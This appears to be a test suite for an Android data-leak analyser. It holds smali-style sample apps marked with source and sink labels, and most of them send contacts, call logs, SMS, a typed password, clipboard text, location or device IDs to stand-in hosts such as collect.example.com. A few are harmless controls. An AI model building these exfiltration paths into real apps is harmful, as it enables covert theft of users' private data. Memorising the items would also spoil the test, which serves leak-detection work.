# What apps that collect do: whole paths from a phone's data to a way out.

#app contacts as JSON, encrypted, encoded, posted with OkHttp
#: permissions READ_CONTACTS INTERNET
%class Main < Landroid/app/Activity;
%create 1
new-instance v0, Lcom/example/app/Collect;
invoke-direct {v0, p0}, Lcom/example/app/Collect;-><init>(Landroid/content/Context;)V
invoke-virtual {v0}, Lcom/example/app/Collect;->start()V
%end
%bare Collect < Ljava/lang/Thread;
.field private final context:Landroid/content/Context;
.field private static final KEY:Ljava/lang/String; = "0123456789abcdef"
.method constructor <init>(Landroid/content/Context;)V
.locals 0
invoke-direct {p0}, Ljava/lang/Thread;-><init>()V
iput-object p1, p0, Lcom/example/app/Collect;->context:Landroid/content/Context;
%end
.method private gather()Lorg/json/JSONArray;
.locals 8
iget-object v0, p0, Lcom/example/app/Collect;->context:Landroid/content/Context;
invoke-virtual {v0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
move-result-object v0
sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
const/4 v2, 0x0
const/4 v3, 0x0
const/4 v4, 0x0
const/4 v5, 0x0
invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;   #= source a contacts
move-result-object v0
%new v6, Lorg/json/JSONArray;
:next
invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z
move-result v1
if-eqz v1, :done
%new v2, Lorg/json/JSONObject;
const-string v3, "data1"
invoke-interface {v0, v3}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
move-result v4
invoke-interface {v0, v4}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
move-result-object v4
invoke-virtual {v2, v3, v4}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
invoke-virtual {v6, v2}, Lorg/json/JSONArray;->put(Ljava/lang/Object;)Lorg/json/JSONArray;
goto :next
:done
return-object v6
.end method
.method private static hide([B)[B
.locals 4
new-instance v0, Ljavax/crypto/spec/SecretKeySpec;
const-string v1, "0123456789abcdef"
invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
move-result-object v1
const-string v2, "AES"
invoke-direct {v0, v1, v2}, Ljavax/crypto/spec/SecretKeySpec;-><init>([BLjava/lang/String;)V
invoke-static {v2}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
move-result-object v1
const/4 v3, 0x1
invoke-virtual {v1, v3, v0}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;)V
invoke-virtual {v1, p0}, Ljavax/crypto/Cipher;->doFinal([B)[B
move-result-object v0
return-object v0
.end method
%on run()V, 6
invoke-direct {p0}, Lcom/example/app/Collect;->gather()Lorg/json/JSONArray;
move-result-object v0
invoke-virtual {v0}, Lorg/json/JSONArray;->toString()Ljava/lang/String;
move-result-object v0
invoke-virtual {v0}, Ljava/lang/String;->getBytes()[B
move-result-object v0
invoke-static {v0}, Lcom/example/app/Collect;->hide([B)[B
move-result-object v0
const/4 v1, 0x2
invoke-static {v0, v1}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
move-result-object v0
const/4 v1, 0x0
invoke-static {v1, v0}, Lokhttp3/RequestBody;->create(Lokhttp3/MediaType;Ljava/lang/String;)Lokhttp3/RequestBody;
move-result-object v0
%new v1, Lokhttp3/Request$Builder;
const-string v2, "https://collect.example.com/v1"
invoke-virtual {v1, v2}, Lokhttp3/Request$Builder;->url(Ljava/lang/String;)Lokhttp3/Request$Builder;
move-result-object v1
invoke-virtual {v1, v0}, Lokhttp3/Request$Builder;->post(Lokhttp3/RequestBody;)Lokhttp3/Request$Builder;
move-result-object v1
invoke-virtual {v1}, Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
move-result-object v1
%new v2, Lokhttp3/OkHttpClient;
invoke-virtual {v2, v1}, Lokhttp3/OkHttpClient;->newCall(Lokhttp3/Request;)Lokhttp3/Call;
move-result-object v2
invoke-interface {v2}, Lokhttp3/Call;->execute()Lokhttp3/Response;       #= sink a network
%end

#app contacts are read and shown, the post holds a constant
#: permissions READ_CONTACTS INTERNET
%class Main < Landroid/app/Activity;
%create 8
invoke-virtual {p0}, Lcom/example/app/Main;->getContentResolver()Landroid/content/ContentResolver;
move-result-object v0
sget-object v1, Landroid/provider/ContactsContract$Contacts;->CONTENT_URI:Landroid/net/Uri;
const/4 v2, 0x0
const/4 v3, 0x0
const/4 v4, 0x0
const/4 v5, 0x0
invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
move-result-object v0
const/4 v1, 0x1
invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
move-result-object v0
new-instance v1, Landroid/widget/TextView;
invoke-direct {v1, p0}, Landroid/widget/TextView;-><init>(Landroid/content/Context;)V
invoke-virtual {v1, v0}, Landroid/widget/TextView;->setText(Ljava/lang/CharSequence;)V
const-string v0, "version=1"
const/4 v1, 0x0
invoke-static {v1, v0}, Lokhttp3/RequestBody;->create(Lokhttp3/MediaType;Ljava/lang/String;)Lokhttp3/RequestBody;
move-result-object v0
%new v1, Lokhttp3/Request$Builder;
const-string v2, "https://collect.example.com/v1"
invoke-virtual {v1, v2}, Lokhttp3/Request$Builder;->url(Ljava/lang/String;)Lokhttp3/Request$Builder;
invoke-virtual {v1, v0}, Lokhttp3/Request$Builder;->post(Lokhttp3/RequestBody;)Lokhttp3/Request$Builder;
invoke-virtual {v1}, Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
move-result-object v1
%new v2, Lokhttp3/OkHttpClient;
invoke-virtual {v2, v1}, Lokhttp3/OkHttpClient;->newCall(Lokhttp3/Request;)Lokhttp3/Call;
move-result-object v2
invoke-interface {v2}, Lokhttp3/Call;->execute()Lokhttp3/Response;
%end

#app the call log in a file, the file uploaded
#: permissions READ_CALL_LOG INTERNET
%class Main < Landroid/app/Activity;
.method private save()V
.locals 7
invoke-virtual {p0}, Lcom/example/app/Main;->getContentResolver()Landroid/content/ContentResolver;
move-result-object v0
const-string v1, "content://call_log/calls"
invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
move-result-object v1
const/4 v2, 0x0
const/4 v3, 0x0
const/4 v4, 0x0
const/4 v5, 0x0
invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;   #= source a call_log
move-result-object v0
const-string v1, "calls.txt"
const/4 v2, 0x0
invoke-virtual {p0, v1, v2}, Lcom/example/app/Main;->openFileOutput(Ljava/lang/String;I)Ljava/io/FileOutputStream;
move-result-object v1
:next
invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z
move-result v2
if-eqz v2, :done
const/4 v2, 0x1
invoke-interface {v0, v2}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
move-result-object v2
invoke-virtual {v2}, Ljava/lang/String;->getBytes()[B
move-result-object v2
invoke-virtual {v1, v2}, Ljava/io/FileOutputStream;->write([B)V          #= sink a file
goto :next
:done
invoke-virtual {v1}, Ljava/io/FileOutputStream;->close()V
%end
.method private send()V
.locals 6
const-string v0, "calls.txt"
invoke-virtual {p0, v0}, Lcom/example/app/Main;->openFileInput(Ljava/lang/String;)Ljava/io/FileInputStream;
move-result-object v0
new-instance v1, Ljava/net/URL;
const-string v2, "https://collect.example.com/calls"
invoke-direct {v1, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
invoke-virtual {v1}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
move-result-object v1
check-cast v1, Ljava/net/HttpURLConnection;
invoke-virtual {v1}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
move-result-object v1
const/16 v2, 0x1000
new-array v2, v2, [B
:next
invoke-virtual {v0, v2}, Ljava/io/InputStream;->read([B)I
move-result v3
if-lez v3, :done
const/4 v4, 0x0
invoke-virtual {v1, v2, v4, v3}, Ljava/io/OutputStream;->write([BII)V    #= sink a network
goto :next
:done
%end
%create 0
invoke-direct {p0}, Lcom/example/app/Main;->save()V
invoke-direct {p0}, Lcom/example/app/Main;->send()V
%end

#app a received SMS is sent on
#: permissions RECEIVE_SMS SEND_SMS
#: component <receiver android:name=".Ear" android:exported="true"><intent-filter><action android:name="android.provider.Telephony.SMS_RECEIVED"/></intent-filter></receiver>
%class Main < Landroid/app/Activity;
%class Ear < Landroid/content/BroadcastReceiver;
%on onReceive(Landroid/content/Context;Landroid/content/Intent;)V, 8
invoke-static {p2}, Landroid/provider/Telephony$Sms$Intents;->getMessagesFromIntent(Landroid/content/Intent;)[Landroid/telephony/SmsMessage;
move-result-object v0
const/4 v1, 0x0
aget-object v0, v0, v1
invoke-virtual {v0}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;   #= source a sms
move-result-object v0
%sms v0, v1                                                    #= sink a sms
%end

#app the inbox through a socket
#: permissions READ_SMS INTERNET
%class Main < Landroid/app/Activity;
%create 7
invoke-virtual {p0}, Lcom/example/app/Main;->getContentResolver()Landroid/content/ContentResolver;
move-result-object v0
const-string v1, "content://sms/inbox"
invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
move-result-object v1
const/4 v2, 0x0
const/4 v3, 0x0
const/4 v4, 0x0
const/4 v5, 0x0
invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;   #= source a sms
move-result-object v0
invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
const/4 v1, 0x2
invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
move-result-object v0
new-instance v1, Ljava/net/Socket;
const-string v2, "collect.example.com"
const/16 v3, 0x50
invoke-direct {v1, v2, v3}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
invoke-virtual {v1}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
move-result-object v1
new-instance v2, Ljava/io/PrintWriter;
invoke-direct {v2, v1}, Ljava/io/PrintWriter;-><init>(Ljava/io/OutputStream;)V
invoke-virtual {v2, v0}, Ljava/io/PrintWriter;->println(Ljava/lang/String;)V              #= sink a network
%end

#app the device id in a request's body
#: permissions READ_PHONE_STATE INTERNET
%class Main < Landroid/app/Activity;
%create 3
%device v0                                                     #= source a device_id
new-instance v1, Ljava/net/URL;
const-string v2, "https://collect.example.com/id"
invoke-direct {v1, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
invoke-virtual {v1}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
move-result-object v1
check-cast v1, Ljava/net/HttpURLConnection;
invoke-virtual {v1}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
move-result-object v1
invoke-virtual {v0}, Ljava/lang/String;->getBytes()[B
move-result-object v0
invoke-virtual {v1, v0}, Ljava/io/OutputStream;->write([B)V              #= sink a network
%end

#app a password, typed in, sent
#: permissions INTERNET
#: layout main <LinearLayout><EditText android:id="@+id/name" android:inputType="text"/><EditText android:id="@+id/secret" android:inputType="textPassword"/><Button android:onClick="go"/></LinearLayout>
%class Main < Landroid/app/Activity;
%create 1
%view main, v0
%end
.method private post(Ljava/lang/String;)V
.locals 4
new-instance v1, Ljava/net/Socket;
const-string v2, "login.example.com"
const/16 v3, 0x50
invoke-direct {v1, v2, v3}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
invoke-virtual {v1}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
move-result-object v1
invoke-virtual {p1}, Ljava/lang/String;->getBytes()[B
move-result-object v0
invoke-virtual {v1, v0}, Ljava/io/OutputStream;->write([B)V              #= sink a network
%end
%on go(Landroid/view/View;)V, 1
const v0, @id/name
invoke-virtual {p0, v0}, Lcom/example/app/Main;->findViewById(I)Landroid/view/View;
move-result-object v0
check-cast v0, Landroid/widget/EditText;
invoke-virtual {v0}, Landroid/widget/EditText;->getText()Landroid/text/Editable;
move-result-object v0
invoke-virtual {v0}, Ljava/lang/Object;->toString()Ljava/lang/String;
move-result-object v0
invoke-direct {p0, v0}, Lcom/example/app/Main;->post(Ljava/lang/String;)V
const v0, @id/secret
invoke-virtual {p0, v0}, Lcom/example/app/Main;->findViewById(I)Landroid/view/View;
move-result-object v0
check-cast v0, Landroid/widget/EditText;
invoke-virtual {v0}, Landroid/widget/EditText;->getText()Landroid/text/Editable;          #= source a input
move-result-object v0
invoke-virtual {v0}, Ljava/lang/Object;->toString()Ljava/lang/String;
move-result-object v0
invoke-direct {p0, v0}, Lcom/example/app/Main;->post(Ljava/lang/String;)V
%end

#app the clipboard in a page's address
#: permissions INTERNET
%class Main < Landroid/app/Activity;
%create 4
const-string v0, "clipboard"
invoke-virtual {p0, v0}, Lcom/example/app/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
move-result-object v0
check-cast v0, Landroid/content/ClipboardManager;
invoke-virtual {v0}, Landroid/content/ClipboardManager;->getPrimaryClip()Landroid/content/ClipData;   #= source a clipboard
move-result-object v0
const/4 v1, 0x0
invoke-virtual {v0, v1}, Landroid/content/ClipData;->getItemAt(I)Landroid/content/ClipData$Item;
move-result-object v0
invoke-virtual {v0}, Landroid/content/ClipData$Item;->getText()Ljava/lang/CharSequence;
move-result-object v0
invoke-interface {v0}, Ljava/lang/CharSequence;->toString()Ljava/lang/String;
move-result-object v0
const-string v1, "https://collect.example.com/?c="
invoke-virtual {v1, v0}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
move-result-object v0
new-instance v1, Landroid/webkit/WebView;
invoke-direct {v1, p0}, Landroid/webkit/WebView;-><init>(Landroid/content/Context;)V
invoke-virtual {v1, v0}, Landroid/webkit/WebView;->loadUrl(Ljava/lang/String;)V           #= sink a network
%end

#app the installed apps through Retrofit
#: permissions QUERY_ALL_PACKAGES INTERNET
.class public interface abstract Lcom/example/app/Server;
.super Ljava/lang/Object;
.method public abstract apps(Ljava/lang/String;)Lretrofit2/Call;
.annotation runtime Lretrofit2/http/POST;
value = "/v1/apps"
.end annotation
.end method
%class Main < Landroid/app/Activity;
%create 6
invoke-virtual {p0}, Lcom/example/app/Main;->getPackageManager()Landroid/content/pm/PackageManager;
move-result-object v0
const/4 v1, 0x0
invoke-virtual {v0, v1}, Landroid/content/pm/PackageManager;->getInstalledPackages(I)Ljava/util/List;   #= source a installed_apps
move-result-object v0
%new v2, Ljava/lang/StringBuilder;
invoke-interface {v0}, Ljava/util/List;->iterator()Ljava/util/Iterator;
move-result-object v0
:next
invoke-interface {v0}, Ljava/util/Iterator;->hasNext()Z
move-result v1
if-eqz v1, :done
invoke-interface {v0}, Ljava/util/Iterator;->next()Ljava/lang/Object;
move-result-object v1
check-cast v1, Landroid/content/pm/PackageInfo;
iget-object v1, v1, Landroid/content/pm/PackageInfo;->packageName:Ljava/lang/String;
invoke-virtual {v2, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
goto :next
:done
invoke-virtual {v2}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
move-result-object v2
%new v3, Lretrofit2/Retrofit$Builder;
const-string v4, "https://collect.example.com/"
invoke-virtual {v3, v4}, Lretrofit2/Retrofit$Builder;->baseUrl(Ljava/lang/String;)Lretrofit2/Retrofit$Builder;
invoke-virtual {v3}, Lretrofit2/Retrofit$Builder;->build()Lretrofit2/Retrofit;
move-result-object v3
const-class v4, Lcom/example/app/Server;
invoke-virtual {v3, v4}, Lretrofit2/Retrofit;->create(Ljava/lang/Class;)Ljava/lang/Object;
move-result-object v3
check-cast v3, Lcom/example/app/Server;
invoke-interface {v3, v2}, Lcom/example/app/Server;->apps(Ljava/lang/String;)Lretrofit2/Call;
move-result-object v3
invoke-interface {v3}, Lretrofit2/Call;->execute()Lretrofit2/Response;   #= sink a network
%end

#app the app's own provider is asked, the answer posted
#: component <provider android:name=".Store" android:authorities="com.example.app.store" android:exported="false"/>
%class Main < Landroid/app/Activity;
%create 7
invoke-virtual {p0}, Lcom/example/app/Main;->getContentResolver()Landroid/content/ContentResolver;
move-result-object v0
const-string v1, "content://com.example.app.store/notes"
invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
move-result-object v1
const/4 v2, 0x0
const/4 v3, 0x0
const/4 v4, 0x0
const/4 v5, 0x0
invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
move-result-object v0
const/4 v1, 0x1
invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
move-result-object v0
%log v0
%end
%class Store < Landroid/content/ContentProvider;
%on onCreate()Z, 1
const/4 v0, 0x1
return v0
.end method
%on query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;, 1
const/4 v0, 0x0
return-object v0
.end method

#app where the phone was last, by SMS
#: permissions ACCESS_FINE_LOCATION SEND_SMS
%class Main < Landroid/app/Activity;
%create 8
const-string v0, "location"
invoke-virtual {p0, v0}, Lcom/example/app/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
move-result-object v0
check-cast v0, Landroid/location/LocationManager;
const-string v1, "gps"
invoke-virtual {v0, v1}, Landroid/location/LocationManager;->getLastKnownLocation(Ljava/lang/String;)Landroid/location/Location;
move-result-object v0
invoke-virtual {v0}, Landroid/location/Location;->getLatitude()D         #= source a location
move-result-wide v0
invoke-static {v0, v1}, Ljava/lang/Double;->toString(D)Ljava/lang/String;
move-result-object v0
%sms v0, v1                                                    #= sink a sms
%end

#app the id that Android gives, in a header
#: permissions INTERNET
%class Main < Landroid/app/Activity;
%create 4
invoke-virtual {p0}, Lcom/example/app/Main;->getContentResolver()Landroid/content/ContentResolver;
move-result-object v0
const-string v1, "android_id"
invoke-static {v0, v1}, Landroid/provider/Settings$Secure;->getString(Landroid/content/ContentResolver;Ljava/lang/String;)Ljava/lang/String;   #= source a device_id
move-result-object v0
new-instance v1, Ljava/net/URL;
const-string v2, "https://collect.example.com/"
invoke-direct {v1, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
invoke-virtual {v1}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
move-result-object v1
const-string v2, "X-Id"
invoke-virtual {v1, v2, v0}, Ljava/net/URLConnection;->setRequestProperty(Ljava/lang/String;Ljava/lang/String;)V   #= sink a network
%end

#app another setting in a header
#: permissions INTERNET
%class Main < Landroid/app/Activity;
%create 4
invoke-virtual {p0}, Lcom/example/app/Main;->getContentResolver()Landroid/content/ContentResolver;
move-result-object v0
const-string v1, "accessibility_enabled"
invoke-static {v0, v1}, Landroid/provider/Settings$Secure;->getString(Landroid/content/ContentResolver;Ljava/lang/String;)Ljava/lang/String;
move-result-object v0
new-instance v1, Ljava/net/URL;
const-string v2, "https://collect.example.com/"
invoke-direct {v1, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
invoke-virtual {v1}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
move-result-object v1
const-string v2, "X-Setting"
invoke-virtual {v1, v2, v0}, Ljava/net/URLConnection;->setRequestProperty(Ljava/lang/String;Ljava/lang/String;)V
%end
